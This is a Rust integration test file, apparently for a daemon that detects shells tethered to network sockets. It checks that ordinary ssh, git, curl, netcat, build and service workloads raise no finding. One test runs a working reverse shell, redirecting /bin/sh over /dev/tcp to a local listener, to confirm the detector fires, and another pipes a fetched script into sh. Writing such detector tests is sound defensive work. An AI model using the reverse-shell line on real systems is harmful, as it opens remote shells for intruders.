//! Ordinary work with the real tools: no finding.
//!
//! A finding is this test's own if it is about one of its ports, or mentions its directory (as an argument, a path, or
//! the working directory). Before it is asked for, everything executed so far has been judged (`Daemon::judged`).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::io::Read;
use std::os::fd::OwnedFd;
use std::os::unix::net::{UnixListener, UnixStream};
use std::process::{Command, Stdio};

use common::attacker::Listener;
use common::victim::Victim;
use common::work::{Sshd, Work, answers};

/// The guard itself: an attack in the directory of a piece of work is not quiet.
#[test]
fn the_guard_sees_an_attack() {
    require!("gcc");
    let work = Work::new();
    let attacker = Listener::tcp();
    let line = format!(
        "exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh -c ': {}' <&5 >&5 2>&5",
        attacker.port(),
        work.path("x").display()
    );
    work.bash(&line);
    let quiet = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| work.stays_quiet()));
    assert!(quiet.is_err(), "a tethered shell went by unseen");
}

#[test]
fn ssh_commands_and_piped_shells() {
    require!("/usr/sbin/sshd", "ssh", "ssh-keygen");
    let mut work = Work::new();
    let sshd = Sshd::new(&mut work);
    let ssh = sshd.ssh();
    let here = work.directory.path().display().to_string();
    let output = work.bash(&format!("{ssh} box 'id -u; ls {here}; hostname'"));
    assert!(String::from_utf8_lossy(&output.stdout).contains("sshd_config"));
    work.bash(&format!("echo 'id; cd {here}; cat ssh_config | wc -l' | {ssh} box sh"));
    work.bash(&format!("echo 'uname -a; exit' | {ssh} -T box"));
    work.bash(&format!("{ssh} box 'cat {here}/sshd_config' | grep -c Port | sort"));
    work.bash(&format!("{ssh} box bash -s <<<'whoami; date'"));
    work.stays_quiet();
}

#[test]
fn ssh_interactive_login() {
    require!("/usr/sbin/sshd", "ssh", "ssh-keygen");
    let mut work = Work::new();
    let sshd = Sshd::new(&mut work);
    let here = work.directory.path().display().to_string();
    let line = format!("printf 'cd {here}\\nid\\ntty\\nls | sort\\nexit\\n' | {} -tt box", sshd.ssh());
    let output = work.bash(&line);
    assert!(String::from_utf8_lossy(&output.stdout).contains("/dev/pts/"));
    work.stays_quiet();
}

#[test]
fn scp_sftp_and_rsync_over_ssh() {
    require!("/usr/sbin/sshd", "ssh", "ssh-keygen", "scp", "sftp", "rsync");
    let mut work = Work::new();
    let sshd = Sshd::new(&mut work);
    let (ssh, config) = (sshd.ssh(), sshd.config.display().to_string());
    let here = work.directory.path().display().to_string();
    work.bash("mkdir tree; seq 1000 > tree/numbers; head -c 100000 /dev/urandom > tree/noise");
    work.bash(&format!(
        "scp -q -F {config} -r box:{here}/tree copy1; scp -q -O -F {config} tree/noise box:{here}/copy2"
    ));
    work.bash(&format!("echo 'get {here}/tree/numbers got' | sftp -q -F {config} -b - box"));
    work.bash(&format!(
        "rsync -a -e '{ssh}' box:{here}/tree/ copy3/; rsync -a -e '{ssh}' tree/ box:{here}/copy4/"
    ));
    work.bash(
        "cmp tree/noise copy1/noise; cmp tree/noise copy2; cmp tree/numbers got; cmp tree/noise copy4/noise",
    );
    work.stays_quiet();
}

#[test]
fn git_over_ssh() {
    require!("/usr/sbin/sshd", "ssh", "ssh-keygen", "git");
    let mut work = Work::new();
    let sshd = Sshd::new(&mut work);
    let here = work.directory.path().display().to_string();
    work.bash("git init -q --bare there.git");
    let identity = "-c user.name=t -c user.email=t@example.com";
    work.bash(&format!(
        "export GIT_SSH_COMMAND='{}'\n\
         git clone -q box:{here}/there.git one 2>/dev/null; cd one; seq 100 > file; git add file\n\
         git {identity} commit -qm first; git push -q origin HEAD; cd ..; git clone -q box:{here}/there.git two\n\
         cmp one/file two/file",
        sshd.ssh()
    ));
    work.stays_quiet();
}

#[test]
fn git_daemon() {
    require!("git");
    let mut work = Work::new();
    let port = work.port();
    work.bash(
        "git init -q source; cd source; seq 100 > file; git add file\n\
         git -c user.name=t -c user.email=t@example.com commit -qm first; touch .git/git-daemon-export-ok",
    );
    let base = format!("--base-path={}", work.directory.path().display());
    let daemon = work.started(
        "/usr/bin/git",
        &["daemon", "--reuseaddr", "--listen=127.0.0.1", &format!("--port={port}"), &base],
    );
    answers(port);
    work.bash(&format!("git clone -q git://127.0.0.1:{port}/source copy; cmp source/file copy/file"));
    drop(daemon);
    work.stays_quiet();
}

#[test]
fn downloads_into_pipelines() {
    require!("/usr/bin/python3", "curl", "wget", "tar");
    let mut work = Work::new();
    let port = work.port();
    work.bash("mkdir web; seq 1000 > web/file; tar czf web/file.tgz web/file; printf 'echo ran; id -u\\n' > web/install.sh");
    let web = work.path("web");
    let server = work.started(
        "/usr/bin/python3",
        &[
            "-m",
            "http.server",
            &port.to_string(),
            "--bind",
            "127.0.0.1",
            "--directory",
            web.to_str().unwrap(),
        ],
    );
    answers(port);
    let url = format!("http://127.0.0.1:{port}");
    work.bash(&format!(
        "curl -sS {url}/file.tgz | tar xzf - -C . ; wget -q {url}/file -O got; cmp got web/file"
    ));
    work.bash(&format!("wget -qO- {url}/file.tgz | tar tzf - | grep -c file"));
    work.bash(&format!(
        "curl -sS {url}/install.sh | sh; x=$(curl -sS {url}/file | tail -1); test \"$x\" = 1000"
    ));
    work.bash(&format!("curl -sS {url}/file | grep 9 | sort -r | head -3 || true"));
    drop(server);
    work.stays_quiet();
}

#[test]
fn netcat_in_pipelines() {
    require!("nc.openbsd", "nc.traditional", "tar");
    let mut work = Work::new();
    let (first, second) = (work.port(), work.port());
    work.bash("mkdir tree; seq 1000 > tree/numbers");
    // A file over netcat, both ways round.
    work.bash(&format!(
        "nc.openbsd -l 127.0.0.1 {first} | tar xf - --transform s/tree/got/ & \
         until tar cf - tree | nc.openbsd -N 127.0.0.1 {first} 2>/dev/null; do :; done; wait; cmp tree/numbers got/numbers"
    ));
    work.bash(&format!(
        "(echo hello; echo world) | nc.traditional -q0 -l -p {second} -s 127.0.0.1 & \
         until nc.openbsd -d 127.0.0.1 {second} 2>/dev/null | grep world; do :; done; wait"
    ));
    work.stays_quiet();
}

/// Health checks by the hundred: a connection is opened, and a word is written to it.
#[test]
fn health_checks() {
    require!("bash", "nc.openbsd");
    let mut work = Work::new();
    let listener = Listener::tcp();
    let port = listener.swallow();
    work.ports.push(port);
    work.bash(&format!("for i in $(seq 100); do bash -c 'echo >/dev/tcp/127.0.0.1/{port}'; done"));
    work.bash(&format!(
        "for i in $(seq 50); do bash -c 'exec /bin/echo ping >/dev/tcp/127.0.0.1/{port}'; done"
    ));
    work.bash(&format!(
        "for i in $(seq 20); do timeout 5 bash -c '</dev/tcp/127.0.0.1/{port}'; nc -z 127.0.0.1 {port}; done"
    ));
    work.stays_quiet();
}

/// A plain transfer: one command, one direction.
#[test]
fn plain_transfers_over_dev_tcp() {
    require!("bash");
    let mut work = Work::new();
    let listener = Listener::tcp();
    work.ports.push(listener.port());
    let port = listener.port();
    let server = std::thread::spawn(move || {
        let mut session = listener.accept();
        session.send("Tue Nov 24\n");
        drop(session);
        let mut session = listener.accept();
        session.rest()
    });
    let output = work.bash(&format!("cat </dev/tcp/127.0.0.1/{port}; date >/dev/tcp/127.0.0.1/{port}"));
    assert!(output.stdout.starts_with(b"Tue"));
    assert!(!server.join().unwrap().is_empty());
    work.stays_quiet();
}

#[test]
fn tmux_and_terminals() {
    require!("tmux", "script");
    let work = Work::new();
    work.bash(
        "export TMUX_TMPDIR=$PWD; tmux -L s new-session -d -x 80 -y 24 'sh -i'; \
         tmux -L s send-keys 'id > done.part; ls | sort; mv done.part done' Enter; \
         until [ -e done ]; do :; done; tmux -L s kill-server",
    );
    work.bash("printf 'id\\ntty\\nexit\\n' | script -qc \"sh -i\" $PWD/typescript >/dev/null");
    work.stays_quiet();
}

#[test]
fn builds_and_pipelines() {
    require!("make", "gcc", "gawk");
    let work = Work::new();
    let rule = "all: $(shell seq -f 'o%g' 40)\no%:\n\techo 'int f(void){return 1;}' | gcc -xc -c -o $@ -; id | cat >/dev/null\n";
    work.write("Makefile", rule);
    work.bash("make -s -j4; ls o* | wc -l");
    work.bash("find /usr/share -maxdepth 2 | xargs -n 50 echo | sort | uniq -c | sort -rn | head -5 >/dev/null || true");
    work.bash("mkfifo p; (cat p | tr a-z A-Z > q) & sh -c 'id; ls; date' > p; wait; grep UID q");
    work.bash("for i in $(seq 50); do x=$(echo \"$i\" | awk '{print $1*2}'); done; coproc cat; kill %1");
    work.stays_quiet();
}

/// A service whose stdout and stderr are a UNIX stream to a log daemon, as under systemd.
#[test]
fn services_that_log_to_a_unix_socket() {
    require!("bash");
    let work = Work::new();
    let listener = UnixListener::bind(work.path("journal")).unwrap();
    let stream = UnixStream::connect(work.path("journal")).unwrap();
    let (mut log, _) = listener.accept().unwrap();
    let out = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
    let line = format!(
        "cd {}; id; for i in 1 2 3; do date; sh -c 'ls; uname'; done",
        work.directory.path().display()
    );
    let mut command = Command::new("/bin/bash");
    command.args(["-c", &line]).stdin(Stdio::null()).stdout(out()).stderr(out());
    assert!(Victim::spawn(command).wait().success());
    drop(stream);
    let mut said = String::new();
    log.read_to_string(&mut said).unwrap();
    assert!(said.contains("uid=0"), "{said}");
    work.stays_quiet();
}

/// A network server that runs commands and reads what they print, as web applications do.
#[test]
fn a_server_that_captures_a_command() {
    require!("/usr/bin/python3", "curl");
    let mut work = Work::new();
    let port = work.port();
    let script = work.write(
        "app.py",
        "import http.server,subprocess,sys\n\
         class H(http.server.BaseHTTPRequestHandler):\n\
         \x20def do_GET(self):\n\
         \x20 out=subprocess.run(['/usr/bin/uptime'],capture_output=True).stdout\n\
         \x20 subprocess.run(['/bin/true'],stdin=subprocess.DEVNULL,stdout=subprocess.DEVNULL)\n\
         \x20 self.send_response(200); self.end_headers(); self.wfile.write(out)\n\
         http.server.HTTPServer(('127.0.0.1',int(sys.argv[1])),H).serve_forever()\n",
    );
    let server = work.started("/usr/bin/python3", &[script.to_str().unwrap(), &port.to_string()]);
    answers(port);
    work.bash(&format!("for i in 1 2 3; do curl -sS http://127.0.0.1:{port}/ | grep load; done"));
    drop(server);
    work.stays_quiet();
}

/// apt with a repository of its own, on this machine.
#[test]
fn apt_with_a_local_repository() {
    require!("apt-get", "dpkg-deb", "/usr/bin/dpkg-scanpackages");
    let work = Work::new();
    work.bash(
        "mkdir -p pkg/DEBIAN repo state/lists/partial cache/archives/partial etc; \
         printf 'Package: tether-test\\nVersion: 1\\nArchitecture: all\\nMaintainer: t <t@example.com>\\nDescription: t\\n' \
         > pkg/DEBIAN/control; dpkg-deb -b pkg repo/tether-test.deb >/dev/null; \
         (cd repo; dpkg-scanpackages . 2>/dev/null > Packages); \
         echo \"deb [trusted=yes] file:$PWD/repo ./\" > etc/list; \
         apt='apt-get -qq -o Dir::Etc::SourceList='$PWD'/etc/list -o Dir::Etc::SourceParts=/dev/null \
         -o Dir::State::Lists='$PWD'/state/lists -o Dir::Cache='$PWD'/cache -o APT::Sandbox::User=root'; \
         $apt update; $apt download tether-test; ls *.deb; apt-cache policy bash >/dev/null; apt-get --version >/dev/null",
    );
    work.stays_quiet();
}

#[test]
fn a_database_client() {
    require!("redis-server", "redis-cli");
    let mut work = Work::new();
    let port = work.port().to_string();
    let server = work.started("redis-server", &["--port", &port, "--bind", "127.0.0.1", "--save", ""]);
    answers(port.parse().unwrap());
    work.bash(&format!("redis-cli -p {port} set a 1; redis-cli -p {port} info | grep redis_version | sort"));
    drop(server);
    work.stays_quiet();
}

/// What passes a socket on a high descriptor to a child is no tether.
#[test]
fn sockets_on_high_descriptors() {
    require!("bash", "gcc");
    let mut work = Work::new();
    let port = Listener::tcp().swallow();
    work.ports.push(port);
    work.bash(&format!("exec 9<>/dev/tcp/127.0.0.1/{port}; id -u; sh -c 'ls; date'; echo x >&9"));
    work.stays_quiet();
}

/// A superserver's listening socket on stdin (systemd's or inetd's "wait" services): nothing flows through it.
#[test]
fn a_listening_socket_on_stdin() {
    require!("bash");
    let work = Work::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let mut command = Command::new("/bin/sh");
    let line = format!(": {}", work.directory.path().display());
    command.args(["-c", &line]).stdin(Stdio::from(OwnedFd::from(listener))).stdout(Stdio::null());
    assert!(Victim::spawn(command).wait().success());
    work.stays_quiet();
}
